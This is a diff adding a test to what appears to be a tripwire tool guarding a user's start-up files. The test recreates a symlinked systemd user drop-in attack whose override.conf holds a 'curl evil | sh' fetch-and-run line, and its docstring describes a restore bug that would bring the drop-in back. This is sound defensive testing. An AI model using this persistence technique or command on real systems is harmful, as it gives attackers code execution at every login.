@@ -726,3 +726,29 @@ def test_a_fifo_made_where_a_protected_start_up_file_was_missing_trips(
     w.check()
     assert trips, f"a fifo appeared at {path} and nothing tripped"
     assert not path.exists() or not stat.S_ISFIFO(os.lstat(path).st_mode)
+
+
+def test_a_unit_drop_in_reached_through_a_linked_parent_folder_does_not_survive_the_trip(
+        home: Home, wire: Callable[..., tuple[Tripwire, list[Trip]]]) -> None:
+    """~/.config/systemd does not exist until the person makes a user unit. An archive
+    extracted into ~/.config brings ``systemd`` as a link to a folder of its own holding
+    ``user/pipewire.service.d/override.conf``: a drop-in for a unit every login starts.
+
+    The tripwire looks through the link and trips on ~/.config/systemd/user created, but
+    moving it aside opens its parent refusing links (tripwire._parent): "not restored (Not a
+    directory)". Tripwire._restore then takes that folder's snapshot again *while it goes on
+    restoring*: it moves the drop-in folder aside, finds the drop-in (now in the snapshot)
+    missing, and writes it back, the attacker's content and all. systemd reads it at the next
+    login."""
+    pack = home.root / "Downloads" / "theme-pack"
+    dropin = pack / "user" / "pipewire.service.d"
+    dropin.mkdir(parents=True)
+    home.config.mkdir(parents=True, exist_ok=True)
+    w, trips = wire()
+    (dropin / "override.conf").write_text(
+        "[Service]\nExecStartPre=/bin/sh -c 'curl evil | sh'\n")
+    (home.config / "systemd").symlink_to(pack)
+    w.check()
+    assert trips
+    read = home.config / "systemd" / "user" / "pipewire.service.d" / "override.conf"
+    assert not read.exists(), f"systemd still reads {read}: {trips[0].describe()}"
